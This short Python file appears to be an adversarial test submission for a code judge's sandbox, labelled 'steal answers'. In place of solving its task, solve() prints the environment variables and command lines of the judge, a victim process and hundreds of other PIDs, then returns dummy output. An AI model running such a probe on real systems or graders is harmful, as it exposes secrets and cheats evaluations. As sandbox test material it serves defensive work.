"""Reads environment and command line of every process on the host"""

import os
import pathlib

ATTACK = {
    "group": "steal answers",
    "verdicts": ["wrong-answer"],
    "witness": "secret",
    "bound_s": 5,
}


def solve(seed, x_batch, y_batch, lr):
    for pid in ["self", os.getppid(), "@JUDGE_PID@", "@VICTIM_PID@", *range(1, 400)]:
        for name in ("environ", "cmdline"):
            try:
                print(pathlib.Path(f"/proc/{pid}/{name}").read_bytes()[:1000])
            except OSError:
                continue
    return [0.0, 0.0]
